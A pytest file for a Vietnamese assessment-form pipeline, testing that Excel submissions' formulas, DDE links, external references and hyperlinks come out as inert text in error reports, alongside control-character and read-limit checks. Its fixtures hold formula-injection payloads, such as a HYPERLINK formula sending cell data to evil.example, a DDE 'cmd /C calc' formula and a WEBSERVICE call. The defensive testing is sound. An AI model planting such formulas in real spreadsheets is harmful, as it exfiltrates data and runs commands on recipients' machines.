"""Issue 17, the content side: nothing live from a submission in any output (¶3), control
characters in names (¶4), reader limits that measure the file, not the machine's load (¶9)."""

from __future__ import annotations

import dataclasses
import logging
import re
import shutil
import signal
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from helpers import stalled_once, stuck_file, valid_row
from openpyxl.workbook.defined_name import DefinedName

from danhgia_batch.issues import Issue, Severity
from danhgia_batch.pipeline import process_inbox
from danhgia_batch.pipeline.check import check_files
from danhgia_batch.read import read_forms
from danhgia_batch.reports.errors import ERROR_SHEET, FORMULAS_AS_TEXT, HEADER_ROW, write_error_workbook
from danhgia_batch.settings import Settings

Fill = Callable[..., Path]
HYPERLINK = '=HYPERLINK("http://evil.example/x?"&A1,"Bấm vào đây")'
DDE = "=cmd|' /C calc'!A0"
EXTERNAL = "=[1]Sheet1!A1+'C:\\evil\\[x.xlsx]S'!B2"


def live_parts(path: Path) -> list[str]:
    """Everything live in a workbook, at the zip level: formulas, external links and targets, DDE."""
    found = []
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            data = z.read(name)
            if name.startswith("xl/externalLinks/"):
                found.append(name)
            if name.startswith("xl/worksheets/sheet") and re.search(rb"<f[ >]", data):
                found.append(f"{name}: formula")
            if name.endswith(".rels") and b'TargetMode="External"' in data:
                found.append(f"{name}: external target")
            if name == "xl/workbook.xml" and re.search(rb"<definedName[^>]*>[^<]*[\[|(]", data):
                found.append("workbook.xml: live defined name")
            if b"ddeLink" in data:
                found.append(f"{name}: dde")
    return found


def hostile_list(fill_template: Fill, path: Path) -> Path:
    """A list with a rejected row and the sender's live content typed in (as Excel saves it)."""
    rows = [valid_row(score=80, final_grade="A"), valid_row(person_code="PNV002", full_name="Lê Thị Mai")]
    src = fill_template("02", rows)
    wb = openpyxl.load_workbook(src)
    ws = wb["DanhSach"]
    ws["W17"] = HYPERLINK  # the note column: a formula where text was expected
    ws["W18"] = DDE
    ws["X17"] = EXTERNAL
    ws["C18"].hyperlink = "http://evil.example/phish"
    wb.defined_names["ngoai"] = DefinedName("ngoai", attr_text="'[ngoai.xlsx]Sheet1'!$A$1")
    wb.defined_names["lien_ket"] = DefinedName("lien_ket", attr_text='HYPERLINK("http://evil.example")')
    wb.save(path)
    assert len(live_parts(path)) >= 3  # the input really is live
    return path


# ---- 3. nothing live from a submission --------------------------------------------------------


def test_error_workbook_shows_formulas_as_text_and_keeps_nothing_live(fill_template: Fill, settings: Settings) -> None:
    (settings.inbox).mkdir(parents=True)
    hostile_list(fill_template, settings.inbox / "doc_hai.xlsx")
    (f,) = process_inbox(settings).files
    assert f.outcome == "rejected"
    out = Path(f.error_files[0])
    assert out.suffix == ".xlsx" and live_parts(out) == []
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames[0] == ERROR_SHEET and "DanhSach" in wb.sheetnames  # the annotated copy
    ws = wb["DanhSach"]
    for ref, typed in (("W17", HYPERLINK), ("W18", DDE), ("X17", EXTERNAL)):
        assert (ws[ref].value, ws[ref].data_type) == (typed, "s"), ref  # what the clerk typed, as text
        assert ws[ref].comment is not None, ref  # … saying it was a formula
    assert ws["C18"].hyperlink is None
    # the template's own locked formulas (totals, grades) are text too, without a comment each:
    # the comments left are the clerk's formulas and the wrong cells, said once on Loi
    assert (ws["L17"].data_type, ws["L17"].value) == ("s", '=IF(COUNT(I17:K17)=0,"",SUM(I17:K17))')
    assert ws["L17"].comment is None
    formulas = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("=")]
    assert len(formulas) > 100
    commented = {c.coordinate for row in ws.iter_rows() for c in row if c.comment is not None}
    wrong = {i.cell for i in f.issues if i.sheet == "DanhSach" and i.cell}
    assert commented == {"W17", "W18", "X17"} | wrong, commented
    assert FORMULAS_AS_TEXT in wb[ERROR_SHEET]["A2"].value
    assert all(c.hyperlink is None or c.hyperlink.target is None for row in wb[ERROR_SHEET].iter_rows() for c in row)
    assert set(wb.defined_names) <= {n for n, d in wb.defined_names.items() if not re.search(r"[\[|(]", d.attr_text)}


def test_reports_keep_names_starting_with_formula_signs_as_text(fill_template: Fill, settings: Settings) -> None:
    names = ["=Nguyễn Văn An", "+84 Lê Thị Mai", "-Trần Văn Bình", "@Phạm Thị Cúc"]
    rows = [valid_row(person_code=f"PNV00{i}", full_name=n, score=75) for i, n in enumerate(names, start=1)]
    src = fill_template("02", rows)
    wb = openpyxl.load_workbook(src)
    cell = wb["DanhSach"]["C17"]
    cell.value, cell.data_type = names[0], "s"  # typed as text ('=… in Excel), not a formula
    settings.inbox.mkdir(parents=True)
    wb.save(settings.inbox / "ds.xlsx")
    result = process_inbox(settings)
    assert [f.outcome for f in result.files] == ["accepted"], result.files[0].issues
    workbooks = [p for p in result.outputs if p.suffix == ".xlsx"]
    assert workbooks and all(live_parts(p) == [] for p in workbooks)
    unit_list = next(p for p in workbooks if p.name.startswith("danh_sach_tong_hop"))
    texts = {c.value for ws in openpyxl.load_workbook(unit_list) for row in ws.iter_rows() for c in row}
    assert set(names) <= texts


# ---- 4. control characters in names ----------------------------------------------------------


def test_control_characters_in_names_fail_check_and_never_stop_the_error_workbook(
    fill_template: Fill, settings: Settings, tmp_path: Path
) -> None:
    rows = [valid_row(full_name="NULHERE"), valid_row(person_code="PNV002", full_name="Lê\u202eThị Mai")]
    src = fill_template("02", rows)
    with zipfile.ZipFile(src) as z:
        members = [(i.filename, z.read(i.filename)) for i in z.infolist()]
    with zipfile.ZipFile(src, "w", zipfile.ZIP_DEFLATED) as z:  # how Excel stores a NUL: _x0000_
        for name, data in members:
            z.writestr(name, data.replace(b"NULHERE", b"Ph_x0000_m V_x001b_n"))

    (checked,) = check_files([src], settings, report_dir=tmp_path / "rep").files
    assert not checked.ok  # it said the file passes
    # the decision also gives check the late-arrival warning process would give (a 2022 period)
    codes = [(i.sheet, i.cell, i.code) for i in checked.issues if i.code != "late-arrival"]
    assert codes == [("DanhSach", "C17", "name-control-chars"), ("DanhSach", "C18", "name-control-chars")]
    xlsx, txt = checked.reports
    wb = openpyxl.load_workbook(xlsx)  # the workbook, not only the .txt
    assert "DanhSach" in wb.sheetnames and wb["DanhSach"]["C17"].fill.fgColor.rgb != "00000000"
    shown = [c.value for row in wb[ERROR_SHEET].iter_rows(min_row=2) for c in row]
    assert not any(isinstance(v, str) and re.search("[\x00-\x08\u202e]", v) for v in shown)
    assert "\x00" not in txt.read_text(encoding="utf-8")


def test_error_workbook_writer_survives_raw_control_characters(tmp_path: Path) -> None:
    """Issues built by any code path (not only make_issue) with raw NUL and U+202E."""
    issue = Issue("value-required", Severity.ERROR, "Tên\x00 sai\u202e", sheet="Danh\x01Sach", cell="C17", value="\x00")
    src = tmp_path / "khong_mo_duoc.xlsx"
    src.write_bytes(b"not a zip")
    xlsx, _txt = write_error_workbook(src, [issue], tmp_path / "out" / "x_loi.xlsx")
    wb = openpyxl.load_workbook(xlsx)
    assert wb.sheetnames == [ERROR_SHEET]
    assert wb[ERROR_SHEET].cell(row=HEADER_ROW + 1, column=5).value == "\\x00"  # the value, shown escaped


# ---- 9. limits measure the file, not the machine ---------------------------------------------


def _reader(settings: Settings, **limits: float) -> Settings:
    return dataclasses.replace(settings, reader=dataclasses.replace(settings.reader, **limits))


def test_wall_clock_limit_retries_once_and_logs_a_slow_server(
    fill_template: Fill, settings: Settings, caplog: pytest.LogCaptureFixture, tmp_path: Path
) -> None:
    busy = _reader(settings, timeout_seconds=0.001, retry_timeout_seconds=120)
    with (
        stalled_once(tmp_path / "cham.xlsx", fill_template("02")) as slow,
        caplog.at_level(logging.WARNING, logger="danhgia_batch.safe"),
    ):
        (form,) = read_forms([slow], busy, workers=1)
    assert form.kind == "02" and form.errors == []  # was: file-timeout, an error workbook to the clerk
    warned = [r.getMessage() for r in caplog.records if r.name == "danhgia_batch.safe" and r.levelno >= logging.WARNING]
    # the first attempt's timeout, then "the server was slow"; nothing else
    assert len(warned) == 2, warned
    assert "đọc lại một lần" in warned[0] and str(slow) in warned[0]
    assert warned[1].startswith("Máy chủ chậm") and str(slow) in warned[1]


def test_wall_clock_limit_rejects_after_the_retry(settings: Settings, tmp_path: Path) -> None:
    stuck = _reader(settings, timeout_seconds=0.001, retry_timeout_seconds=0.001)
    (form,) = read_forms([stuck_file(tmp_path / "treo.xlsx")], stuck, workers=1)
    assert [i.code for i in form.issues] == ["file-timeout"]


@pytest.mark.skipif(not hasattr(signal, "SIGXCPU"), reason="POSIX CPU limit")
def test_cpu_limit_ends_the_child_that_exceeds_it() -> None:
    code = "from danhgia_batch.safe import limit_cpu\nlimit_cpu(1)\nwhile True:\n    pass\n"
    run = subprocess.run([sys.executable, "-c", code], timeout=60, check=False)
    assert run.returncode == -signal.SIGXCPU


def test_cpu_seconds_are_per_file(fill_template: Fill, settings: Settings) -> None:
    """A worker reads many files: each gets the whole CPU budget, not what is left of it."""
    files = [fill_template("02", prepared_by=f"Người {i}") for i in range(6)]
    tight = _reader(settings, cpu_seconds=1)
    forms = list(read_forms(files, tight, workers=1))
    assert sorted(f.path for f in forms) == sorted(files) and all(f.errors == [] for f in forms)


def test_process_keeps_a_slow_good_file(
    fill_template: Fill, settings: Settings, caplog: pytest.LogCaptureFixture
) -> None:
    settings.inbox.mkdir(parents=True)
    good = fill_template("02")
    shutil.copy(good, settings.inbox / "ds.xlsx")
    busy = _reader(settings, timeout_seconds=0.001, retry_timeout_seconds=120)

    def first_read_hangs(paths: list[Path], s: Settings) -> list[Any]:
        # claimed as the clerk sent it; then its first read hangs until the wall-clock limit
        (path,) = paths
        path.unlink()
        with stalled_once(path, good):
            return list(read_forms(paths, s, workers=1))

    with caplog.at_level(logging.WARNING, logger="danhgia_batch.safe"):
        (f,) = process_inbox(busy, reader=first_read_hangs).files
    assert any("đọc lại một lần" in r.getMessage() for r in caplog.records)  # the retry happened
    assert f.outcome == "accepted" and f.error_files == []
    assert [i.code for i in f.issues if i.severity is Severity.ERROR] == []
    assert f.archived and Path(f.archived).read_bytes() == good.read_bytes()


@pytest.mark.parametrize(
    ("formula", "plain"),
    [
        ('=IF(COUNT(I17:K17)=0,"",SUM(I17:K17))', True),
        ('=IF(R17="","",IF(R17>=90,"A",IF(R17>=70,"B",IF(R17>=50,"C","D"))))', True),
        ('=IF(N(F9)<=0,"",ROUND(F9*70,2))', True),
        (HYPERLINK, False),
        (DDE, False),
        (EXTERNAL, False),
        ('=INDIRECT("A1")', False),
        ('=webservice("http://evil.example")', False),
        ("=SUM('C:\\evil\\[x.xlsx]S'!B2)", False),
    ],
)
def test_only_the_templates_kind_of_formula_loses_its_comment(formula: str, plain: bool) -> None:
    """A locked formula cell of a protected sheet is made text without a comment only when it
    is of the template's kind: pure functions, nothing outside the workbook."""
    from danhgia_batch.reports.errors import _plain

    assert _plain(formula) is plain
